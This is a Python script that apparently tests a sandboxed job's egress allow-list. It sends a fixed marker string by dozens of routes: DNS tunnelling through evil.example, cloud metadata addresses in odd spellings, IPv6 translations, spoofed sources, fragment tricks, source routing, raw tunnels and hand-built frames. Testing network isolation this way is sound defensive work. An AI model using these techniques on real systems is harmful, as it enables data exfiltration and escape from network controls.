"""Tries to get bytes out of a job with an egress list. Reads names of tries, one a line, and answers each with what came
of it; without names on the command line it makes all of them. Whether anything arrived is for the outside to say.

usage: exfiltrate.py LISTED PORT UNLISTED [NAME...]    LISTED:PORT is listed, UNLISTED is a server outside that is not
"""

import os
import socket
import struct
import sys

LISTED, PORT, UNLISTED = sys.argv[1], int(sys.argv[2]), sys.argv[3]
RESOLVER = "169.254.1.53"
LISTED6, UNLISTED6 = "2600::8", "2600::9"
SECRET = b"secret-of-the-job"
TRIES = {}


def attempt(make):
    TRIES[make.__name__] = make
    return make


def tcp(address, port, options=None, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.3)
        if options:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
        s.connect((address, port))
        s.sendall(SECRET)


def udp(address, port, family=socket.AF_INET, payload=SECRET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.connect((address, port))
        s.send(payload)
        s.settimeout(0.05)
        try:
            s.recv(100)
        except socket.timeout:
            pass


def question(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b".")) + b"\0"
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((LISTED, 9))
        return s.getsockname()[0]


def header(protocol, to, length, source=None, flags=0, options=b"", ident=0x4242):
    words = 5 + len(options) // 4
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x40 | words, 0, words * 4 + length, ident, flags, 64, protocol, 0,
        socket.inet_aton(source or own_address()), socket.inet_aton(to),
    ) + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:]


def raw(protocol, to, payload, **more):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(header(protocol, to, len(payload), **more) + payload, (to, 0))


def udp_packet(port, payload=SECRET, source_port=4444):
    return struct.pack(">HHHH", source_port, port, 8 + len(payload), 0) + payload


def tcp_packet(to, port, flags, source_port=4445):
    packet = struct.pack(">HHIIBBHHH", source_port, port, 1, 1, 0x50, flags, 1024, 0, 0) + SECRET
    pseudo = socket.inet_aton(own_address()) + socket.inet_aton(to) + struct.pack(">BBH", 0, 6, len(packet))
    return packet[:16] + struct.pack(">H", checksum(pseudo + packet)) + packet[18:]


def echo(kind=8):
    packet = struct.pack(">BBHHH", kind, 0, 0, 7, 7) + SECRET
    return packet[:2] + struct.pack(">H", checksum(packet)) + packet[4:]


# Addresses without a name, and name servers that are not the node's.


@attempt
def literal_tcp():
    tcp(UNLISTED, PORT)


@attempt
def literal_udp():
    udp(UNLISTED, PORT)


@attempt
def another_port_of_the_listed():
    tcp(LISTED, PORT + 1)


@attempt
def another_port_of_the_listed_by_udp():
    udp(LISTED, PORT + 1)


@attempt
def question_to_another_resolver():
    udp(UNLISTED, 53, payload=question(b"secret.example.org"))


@attempt
def question_to_another_resolver_by_tcp():
    tcp(UNLISTED, 53)


@attempt
def question_to_the_listed_address():
    udp(LISTED, 53, payload=question(b"secret.example.org"))


@attempt
def tunnel_by_subdomain():
    for n in range(20):
        udp(RESOLVER, 53, payload=question(b"%d.c2VjcmV0.evil.example" % n))


@attempt
def tunnel_by_txt_and_null():
    for kind in (16, 10, 255, 65, 33, 15):
        udp(RESOLVER, 53, payload=question(b"c2VjcmV0.evil.example", kind))


@attempt
def tunnel_by_tcp():
    with socket.create_connection((RESOLVER, 53), 0.3) as s:
        text = question(b"c2VjcmV0.evil.example")
        s.sendall(struct.pack(">H", len(text)) + text)
        s.settimeout(0.3)
        s.recv(512)


@attempt
def tunnel_by_reverse_names():
    udp(RESOLVER, 53, payload=question(b"9.9.9.9.in-addr.arpa", 12))


@attempt
def tunnel_behind_a_listed_suffix():
    udp(RESOLVER, 53, payload=question(b"listed.example.evil.example"))


@attempt
def garbage_to_the_resolver():
    for text in (b"", b"\0" * 12, SECRET * 20, question(b"a" * 63 + b"." + b"b" * 63), b"\xc0\x0c" * 50):
        udp(RESOLVER, 53, payload=text)


@attempt
def another_port_of_the_resolver():
    udp(RESOLVER, 5353)
    tcp(RESOLVER, 853)


@attempt
def dns_over_tls():
    tcp(UNLISTED, 853)


@attempt
def dns_over_https():
    tcp(UNLISTED, 443)


@attempt
def quic():
    udp(UNLISTED, 443)


# Other spellings and other addresses.


@attempt
def address_mapped_into_ipv6():
    tcp("::ffff:" + UNLISTED, PORT, family=socket.AF_INET6)


@attempt
def address_translated_by_nat64():
    tcp("64:ff9b::" + UNLISTED, PORT, family=socket.AF_INET6)


@attempt
def literal_ipv6():
    udp("2001:db8::9", PORT, family=socket.AF_INET6)


@attempt
def neighbours_by_ipv6():
    udp("ff02::1%eth0", PORT, family=socket.AF_INET6)


@attempt
def metadata_in_every_spelling():
    spellings = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"]
    for spelling in spellings + ["168.63.129.16", "100.100.100.200"]:
        try:
            tcp(socket.inet_ntoa(socket.inet_aton(spelling)), 80)
        except OSError:
            pass
    tcp("::ffff:169.254.169.254", 80, family=socket.AF_INET6)


@attempt
def host_by_all_its_addresses():
    for address in ("203.0.113.2", "169.254.127.1", "169.254.127.2", "127.0.0.1", "0.0.0.0"):
        udp(address, PORT)


@attempt
def private_ranges():
    for address in ("10.9.9.9", "10.1.1.1", "192.168.1.1", "172.16.0.1", "100.64.0.1", "198.18.0.1"):
        udp(address, PORT)


@attempt
def gateway():
    own = own_address().split(".")
    udp(".".join(own[:2] + ["0", "1"]), PORT)


@attempt
def multicast():
    for group in ("224.0.0.1", "224.0.0.251", "239.1.2.3"):
        udp(group, PORT)


@attempt
def broadcast():
    for address in ("255.255.255.255", "172.20.255.255", "172.21.255.255", "203.0.113.255"):
        udp(address, PORT)


@attempt
def echo_with_a_payload():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.connect((UNLISTED, 0))
        s.send(echo())


@attempt
def echo_to_the_listed():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.connect((LISTED, 0))
        s.send(echo())


@attempt
def source_route_by_the_listed():
    # LSRR: first to the listed address, from there on to the other.
    tcp(LISTED, PORT + 1, b"\x83\x07\x04" + socket.inet_aton(UNLISTED) + b"\x00")


@attempt
def source_port_of_a_connection_that_is_open():
    with socket.create_connection((LISTED, PORT), 2) as s:
        port = s.getsockname()[1]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.bind(("0.0.0.0", port))
            u.sendto(SECRET, (UNLISTED, PORT))
        raw(6, UNLISTED, tcp_packet(UNLISTED, PORT, 0x18, source_port=port))


# The same in IPv6, which the job has or not.


def every(addresses, port=None):
    heard = None
    for address in addresses:
        for way in (udp, tcp):
            try:
                way(address, port or PORT, family=socket.AF_INET6)
            except OSError as why:
                heard = why
    if heard:
        raise heard


@attempt
def ipv6_unlisted():
    every([UNLISTED6, "2600:f::1", "2001:4860:4860::8888"])


@attempt
def ipv6_another_port_of_the_listed():
    every([LISTED6], PORT + 1)


@attempt
def ipv6_question_to_another_resolver():
    udp(UNLISTED6, 53, family=socket.AF_INET6, payload=question(b"secret.example.org", 28))


@attempt
def ipv6_question_for_aaaa():
    for kind in (28, 38):
        udp(RESOLVER, 53, payload=question(b"c2VjcmV0.evil.example", kind))


@attempt
def ipv6_metadata():
    every(["fd00:ec2::254", "fd20:ce::254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"], 80)


@attempt
def ipv6_translations_of_the_unlisted():
    four = socket.inet_aton(UNLISTED).hex()
    four = four[:4] + ":" + four[4:]
    every(["::ffff:" + four, "::" + four, "::ffff:0:" + four, "64:ff9b::" + four, "64:ff9b:1::" + four])
    every(["2002:" + four + "::1", "2001:0:" + four + "::1", "fe80::5efe:" + four + "%eth0"])


@attempt
def ipv6_host_by_all_its_addresses():
    every(["2600:f::2", "fd6a:6f62:6c65::a9fe:7f01", "fd6a:6f62:6c65::a9fe:7f02", "fe80::1%eth0", "::"])


@attempt
def ipv6_private_and_site_local_ranges():
    every(["fd99::9", "fc00::1", "fec0::9", "2001:db8::9", "3fff::9", "100::1", "5f00::1", "4000::1"])


@attempt
def ipv6_multicast():
    groups = ["ff02::1%eth0", "ff02::2%eth0", "ff05::2", "ff08::1", "ff0e::1", "ff02::fb%eth0"]
    every(groups + ["ff02::1:ff00:9%eth0"])


@attempt
def ipv6_echo_with_a_payload():
    for to in (UNLISTED6, LISTED6):
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as s:
            s.connect((to, 0))
            s.send(b"\x80\0\0\0\0\7\0\7" + SECRET)


# What a job has no right to, and root of a namespace has.


def own_address6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.connect((LISTED6, 9))
        return s.getsockname()[0]


def six(to, protocol, payload, source=None):
    source = socket.inet_pton(socket.AF_INET6, source or own_address6())
    destination = socket.inet_pton(socket.AF_INET6, to)
    return struct.pack(">IHBB", 0x60000000, len(payload), protocol, 64) + source + destination + payload


def raw6(to, protocol, payload, **more):
    packet = six(to, protocol, payload, **more)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet, (to, 0))


@attempt
def ipv6_raw_udp():
    raw6(UNLISTED6, 17, udp_packet(PORT))


@attempt
def ipv6_raw_icmp_of_every_kind():
    for kind in (1, 2, 3, 4, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 138, 143, 255):
        for to in (UNLISTED6, LISTED6):
            raw6(to, 58, bytes([kind, 0, 0, 0]) + b"\0" * 4 + SECRET)


@attempt
def ipv6_tcp_without_a_handshake():
    for flags in (0x10, 0x18, 0x01, 0x04, 0x29, 0x00):
        raw6(UNLISTED6, 6, struct.pack(">HHIIBBHHH", 4445, PORT, 1, 1, 0x50, flags, 1024, 0, 0) + SECRET)


@attempt
def ipv6_behind_extension_headers():
    packet = udp_packet(PORT)
    options = bytes([17, 0, 1, 4, 0, 0, 0, 0])
    for kind in (0, 60):  # hop by hop, destination
        raw6(UNLISTED6, kind, options + packet)
    for kind in (0, 2, 4):  # routing headers, by the listed one
        route = bytes([17, 2, kind, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, UNLISTED6)
        raw6(UNLISTED6, 43, route + packet)
        raw6(LISTED6, 43, route + packet)
    raw6(UNLISTED6, 44, bytes([17, 0, 0, 1, 0, 0, 0, 9]) + packet + b"\0" * 7)
    raw6(UNLISTED6, 44, bytes([17, 0, 0, 64, 0, 0, 0, 8]) + SECRET)
    raw6(UNLISTED6, 59, SECRET)


@attempt
def ipv6_tunnels():
    inner = udp_packet(PORT)
    for to in (UNLISTED6, LISTED6):
        raw6(to, 41, six(UNLISTED6, 17, inner))
        raw6(to, 4, b"\x45" + b"\0" * 19 + SECRET)
        for protocol in (47, 50, 51, 132, 33, 136, 115, 253):
            raw6(to, protocol, struct.pack(">HH", 4444, PORT) + SECRET)


@attempt
def ipv6_source_of_a_neighbour():
    own = own_address6()
    head = own.rsplit(":", 1)[0]
    for last in range(2, 8):
        raw6(UNLISTED6, 17, udp_packet(PORT), source=f"{head}:{last:x}")
        raw6(LISTED6, 17, udp_packet(PORT), source=f"{head}:{last:x}")


@attempt
def ipv6_source_of_nobody():
    for source in ("::", "::1", "fe80::1", "2600::5", "2600:f::2", "fd6a:6f62:6c65:1::ac15:2", "ff02::1"):
        for to in (UNLISTED6, LISTED6):
            raw6(to, 17, udp_packet(PORT), source=source)



@attempt
def raw_udp():
    raw(17, UNLISTED, udp_packet(PORT))


@attempt
def raw_icmp_of_every_kind():
    for kind in (0, 3, 5, 8, 11, 13, 15, 17):
        raw(1, UNLISTED, echo(kind))


@attempt
def tcp_without_a_handshake():
    for flags in (0x10, 0x18, 0x01, 0x04, 0x29, 0x00):
        raw(6, UNLISTED, tcp_packet(UNLISTED, PORT, flags))


@attempt
def error_about_an_open_connection():
    # An ICMP error that quotes an open connection counts as a part of it, if it goes to where that leads.
    with socket.create_connection((LISTED, PORT), 2) as s:
        own, port = s.getsockname()
        quoted = header(6, own, 20, source=LISTED) + struct.pack(">HHII", PORT, port, 1, 1) + b"\x50\x10" + b"\0" * 6
        packet = struct.pack(">BBHI", 3, 1, 0, 0) + quoted + SECRET
        packet = packet[:2] + struct.pack(">H", checksum(packet)) + packet[4:]
        raw(1, UNLISTED, packet)


@attempt
def gre():
    raw(47, UNLISTED, b"\0\0\x08\0" + SECRET)


@attempt
def gre_to_the_listed():
    raw(47, LISTED, b"\0\0\x08\0" + SECRET)


@attempt
def ip_in_ip():
    inner = udp_packet(PORT)
    raw(4, UNLISTED, header(17, UNLISTED, len(inner)) + inner)


@attempt
def ip_in_ip_to_the_listed():
    inner = udp_packet(PORT)
    raw(4, LISTED, header(17, UNLISTED, len(inner)) + inner)


@attempt
def six_in_four():
    raw(41, UNLISTED, b"\x60" + b"\0" * 39 + SECRET)


@attempt
def sctp():
    for to in (UNLISTED, LISTED):
        raw(132, to, struct.pack(">HHII", 4444, PORT, 0, 0) + SECRET)


@attempt
def dccp_udplite_esp_ah_igmp():
    for protocol in (33, 136, 50, 51, 2, 103, 115, 253):
        raw(protocol, UNLISTED, struct.pack(">HH", 4444, PORT) + SECRET)
        raw(protocol, LISTED, struct.pack(">HH", 4444, PORT) + SECRET)


@attempt
def first_fragment_alone():
    raw(17, UNLISTED, udp_packet(PORT) + b"\0" * 7, flags=0x2000, ident=1)


@attempt
def later_fragment_alone():
    raw(17, UNLISTED, SECRET * 2, flags=64, ident=2)


@attempt
def fragments_that_make_another_port():
    # The first says the listed port, the second writes the unlisted one over it.
    raw(17, LISTED, udp_packet(PORT, b"12345678"), flags=0x2000, ident=3)
    raw(17, LISTED, udp_packet(PORT + 1, SECRET), flags=0, ident=3)


@attempt
def tiny_fragments():
    whole = tcp_packet(UNLISTED, PORT, 0x02)
    raw(6, UNLISTED, whole[:8], flags=0x2000, ident=4)
    raw(6, UNLISTED, whole[8:], flags=1, ident=4)


@attempt
def loose_source_route_in_a_raw_packet():
    raw(17, LISTED, udp_packet(PORT + 1), options=b"\x83\x07\x04" + socket.inet_aton(UNLISTED) + b"\x00")


@attempt
def strict_source_route_in_a_raw_packet():
    raw(17, LISTED, udp_packet(PORT + 1), options=b"\x89\x07\x04" + socket.inet_aton(UNLISTED) + b"\x00")


@attempt
def source_of_a_neighbour():
    own = own_address().split(".")
    for last in range(2, 8):
        raw(17, UNLISTED, udp_packet(PORT), source=".".join(own[:3] + [str(last)]))


@attempt
def source_of_nobody():
    for source in ("127.0.0.1", "8.8.4.4", "0.0.0.0", "169.254.127.2", "203.0.113.2"):
        raw(17, UNLISTED, udp_packet(PORT), source=source)


@attempt
def frames_of_its_own():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0x0800))
        own = s.getsockname()[4]
        payload = udp_packet(PORT)
        packet = header(17, UNLISTED, len(payload)) + payload
        for to in (own, b"\xff" * 6, b"\x01\0\x5e\0\0\x01"):
            s.send(to + own + b"\x08\0" + packet)
            s.send(to + own + b"\x81\0\0\x05\x08\0" + packet)
            s.send(to + own + b"\x86\xdd" + b"\x60" + b"\0" * 39 + SECRET)
            s.send(to + own + b"\x88\xb5" + SECRET)


@attempt
def ipv6_frames_of_its_own():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0x86DD))
        own = s.getsockname()[4]
        payload = udp_packet(PORT)
        for packet in (
            six(UNLISTED6, 17, payload),
            six(UNLISTED6, 17, payload, source="fe80::1"),
            six(UNLISTED6, 17, payload, source="::ffff:8.8.8.8"),
            six("ff02::1", 17, payload),
            six("ff02::1", 58, b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, UNLISTED6)),
            six("ff02::1", 58, b"\x86\0\0\0\x40\0\xff\xff" + b"\0" * 8),
        ):
            for to in (own, b"\xff" * 6, b"\x33\x33\0\0\0\x01"):
                s.send(to + own + b"\x86\xdd" + packet)
                s.send(to + own + b"\x08\0" + packet)


def run(name):
    try:
        TRIES[name]()
        return "sent"
    except OSError as why:
        return os.strerror(why.errno) if why.errno else str(why)


if sys.argv[4:] == ["-"]:
    print(" ".join(TRIES), flush=True)
    for line in sys.stdin:
        print(run(line.strip()), flush=True)
else:
    for name in sys.argv[4:] or TRIES:
        print(f"{name}: {run(name)}", flush=True)
